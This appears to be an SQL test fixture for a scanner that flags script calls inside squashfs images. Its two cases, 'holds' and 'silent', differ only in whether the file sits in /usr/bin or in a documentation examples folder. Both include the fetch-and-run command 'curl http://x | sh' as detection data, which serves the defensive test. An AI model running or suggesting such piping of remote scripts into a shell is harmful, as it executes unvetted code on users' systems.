-- holds
INSERT INTO object (id, sha256, size, type, state)
VALUES (1, '0101010101010101010101010101010101010101010101010101010101010101', 1000, 'text', 'examined');
INSERT INTO place (id, object, format, kind, name, path, container, mode)
VALUES (1, 1, 'squashfs', 'file', 'x', '/usr/bin/x', '', 493);
INSERT INTO script_call (object, at, len, pattern, program, text, line)
VALUES (1, 10, 10, 'fetch-run', 'x', 'curl http://x | sh', 3);
-- silent
INSERT INTO object (id, sha256, size, type, state)
VALUES (1, '0101010101010101010101010101010101010101010101010101010101010101', 1000, 'text', 'examined');
INSERT INTO place (id, object, format, kind, name, path, container, mode)
VALUES (1, 1, 'squashfs', 'file', 'x', '/usr/share/doc/x/examples/x', '', 493);
INSERT INTO script_call (object, at, len, pattern, program, text, line)
VALUES (1, 10, 10, 'fetch-run', 'x', 'curl http://x | sh', 3);
